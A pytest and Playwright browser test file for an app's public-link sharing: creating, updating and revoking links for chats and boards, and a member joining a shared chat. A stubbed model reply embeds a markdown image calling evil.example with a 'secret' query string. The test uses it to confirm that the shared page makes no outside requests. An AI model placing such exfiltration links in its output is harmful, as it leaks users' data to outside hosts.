"""Sharing by a link, as the one who shares, a member, and a stranger without any cookie see it."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from leaf.ui.shared import GONE
from tests.browser.conftest import PATIENCE, App
from tests.browser.test_board import SPEC, SQL, button, cards, shots
from tests.browser.test_journeys import add_by_composer, ask, composer, finished
from tests.browser.test_sign_in import login_provider, sign_in, sign_in_secrets
from tests.messages_server import Json, MessagesServer, Turn

__all__ = ["login_provider"]
pytestmark = pytest.mark.browser


def brain(body: Json) -> Turn:
    last = body["messages"][-1]["content"]
    if isinstance(last, list) and any(block["type"] == "tool_result" for block in last):
        return Turn.say(
            "The **North** leads with 300.\n\n| region | revenue |\n|---|---:|\n| North | 300 |\n\n"
            "![x](https://evil.example/?d=secret)"
        )
    if "And then" in str(last):
        return Turn.say("Nothing more.")
    return Turn.call(("query_tables", {"sql": SQL}), ("make_chart", {"spec": SPEC, "sql": SQL}))


@pytest.fixture(scope="module")
def guarded(
    module_app: Callable[..., App], login_provider: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[App]:
    """Ann's and Bob's, with public links."""
    folder = tmp_path_factory.mktemp("links")
    secrets = sign_in_secrets(folder, login_provider)
    with MessagesServer(brain) as model:
        yield module_app(
            folder / "home",
            model.url,
            secrets=secrets,
            LEAF_ALLOWED_DOMAINS="example.org",
            LEAF_PUBLIC_LINKS="on",
        )


@pytest.fixture
def stranger(browser: Browser) -> Iterator[Page]:
    """A browser that has never been here; whatever it would fetch besides is counted."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.set_default_timeout(PATIENCE)
    yield context.new_page()
    context.close()


def asked_by_ann(guarded: App, page: Page, sales: Path) -> None:
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(guarded.url)
    sign_in(page, "Ann")
    add_by_composer(page, sales)
    ask(page, "Revenue by region?")
    expect(finished(page)).to_be_visible()


def share(page: Page) -> None:
    button(page, "Share by link").click()
    expect(page.get_by_role("dialog").get_by_text("Readers see")).to_be_visible()


def create(page: Page) -> str:
    """The address of a new link."""
    panel = page.get_by_role("dialog")
    panel.get_by_role("button", name="Create link").click()
    expect(panel.get_by_text("Copy it now")).to_be_visible()
    shown = panel.locator("[class*=st-key-public-link-] code").filter(visible=True).first
    return (shown.text_content() or "").strip()


def test_a_chat_is_read_by_a_stranger_until_its_link_is_revoked(
    guarded: App, page: Page, stranger: Page, sales: Path
) -> None:
    asked_by_ann(guarded, page, sales)
    share(page)
    shots(page, "links-dialog-empty")
    address = create(page)
    shots(page, "links-dialog")
    assert address.startswith(f"{guarded.url}/_leaf/shared/")
    asked: list[str] = []
    stranger.on("request", lambda request: asked.append(request.url))
    errors: list[str] = []
    stranger.on("console", lambda message: errors.append(message.text))
    stranger.goto(address)
    expect(stranger.get_by_role("heading", name="Revenue by region?").first).to_be_visible()
    expect(stranger.get_by_text("Asked by Ann Example")).to_be_visible()
    picture = stranger.get_by_role("img", name="Revenue by region, as a chart")
    assert picture.evaluate("image => image.naturalWidth") > 100
    stranger.locator("summary").first.click()
    expect(stranger.get_by_text("GROUP BY region").first).to_be_visible()
    assert {url.split(":")[0] for url in asked[1:]} <= {"data"}
    assert [url for url in asked if not url.startswith("data:")] == [address]
    # Which is said of what the test itself has the page do.
    assert [error for error in errors if not error.startswith("Blocked script execution")] == []
    shots(stranger, "links-page")
    panel = page.get_by_role("dialog")
    page.keyboard.press("Escape")
    ask(page, "And then?")
    expect(page.get_by_text("Nothing more.")).to_be_visible()
    stranger.reload()
    expect(stranger.get_by_text("And then?")).to_have_count(0)
    share(page)
    expect(panel.get_by_text("opened 2 times")).to_be_visible()
    expect(panel.get_by_text("Copy it now")).to_have_count(0)
    button(page, "Update link").click()
    expect(page.get_by_text("The link shows it as it is now.")).to_be_visible()
    stranger.reload()
    expect(stranger.get_by_text("And then?")).to_be_visible()
    button(page, "Revoke").click()
    expect(page.get_by_text("Revoked: the link opens nothing any more.")).to_be_visible()
    stranger.reload()
    expect(stranger.get_by_text(GONE[1])).to_be_visible()
    shots(stranger, "links-gone")
    stranger.goto(page.url)
    expect(stranger.get_by_role("heading", name="Ask your files")).to_be_visible()


def test_a_board_is_shared_and_revoked_from_settings(
    guarded: App, page: Page, stranger: Page, sales: Path
) -> None:
    asked_by_ann(guarded, page, sales)
    button(page, "Pin to board").first.click()
    expect(page.get_by_text("Pinned to “Board”.")).to_be_visible()
    page.get_by_role("link", name="Board").click()
    expect(cards(page)).to_have_count(1)
    button(page, "Share by link").click()
    expect(
        page.get_by_role("dialog").get_by_text("what is pinned here as it stands")
    ).to_be_visible()
    address = create(page)
    shots(page, "links-board")
    stranger.goto(address)
    expect(stranger.get_by_role("heading", name="Board", exact=True)).to_be_visible()
    expect(stranger.get_by_role("img").first).to_be_visible()
    shots(stranger, "links-board-page")
    page.goto(f"{guarded.url}/settings")
    expect(page.get_by_role("heading", name="Public links")).to_be_visible()
    shots(page, "links-settings")
    row = page.locator("[class*=st-key-all-links-]").filter(has_text="Board")
    button(row, "Revoke").first.click()
    expect(row).to_have_count(0)
    stranger.reload()
    expect(stranger.get_by_text(GONE[1])).to_be_visible()


def test_a_member_joins_by_the_address_of_a_chat_that_is_open(
    guarded: App, page: Page, browser: Browser, sales: Path
) -> None:
    page.goto(f"{guarded.url}/settings")
    sign_in(page, "Ann")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    page.get_by_label("Invite by e-mail").fill("bob@example.org")
    page.get_by_role("button", name="Invite", exact=True).click()
    expect(page.get_by_text("joins at the next sign-in")).to_be_visible()
    button(page, "New chat").click()
    ask(page, "And then?")
    expect(page.get_by_text("Nothing more.")).to_be_visible()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PATIENCE)
    theirs = context.new_page()
    theirs.goto(guarded.url)
    sign_in(theirs, "Bob")
    expect(composer(theirs)).to_be_visible()
    theirs.goto(page.url)
    expect(theirs.get_by_text("is not shared with you")).to_be_visible()
    share(page)
    page.get_by_text("Members who open it may join this chat").click()
    expect(page.get_by_text("They join with a press")).to_be_visible()
    theirs.goto(page.url)
    expect(theirs.get_by_text("Ann Example shares a chat")).to_be_visible()
    shots(theirs, "links-join")
    button(theirs, "Join this chat").click()
    expect(theirs.get_by_text("Nothing more.")).to_be_visible()
    context.close()


def test_one_person_alone_shares_by_a_link_where_it_is_allowed(
    new_app: Callable[..., App], page: Page, stranger: Page, sales: Path
) -> None:
    with MessagesServer(brain) as model:
        app = new_app(model_url=model.url, LEAF_PUBLIC_LINKS="on")
        page.goto(app.url)
        add_by_composer(page, sales)
        ask(page, "Revenue by region?")
        expect(finished(page)).to_be_visible()
        button(page, "Share by link").click()
        expect(page.get_by_text("reached from this machine only")).to_be_visible()
        stranger.goto(create(page))
        expect(stranger.get_by_text("GROUP BY region").first).to_be_attached()
        expect(stranger.get_by_text("Asked by")).to_have_count(0)
        if folder := os.environ.get("LEAF_SHOTS"):
            page.screenshot(path=f"{folder}/links-local.png")
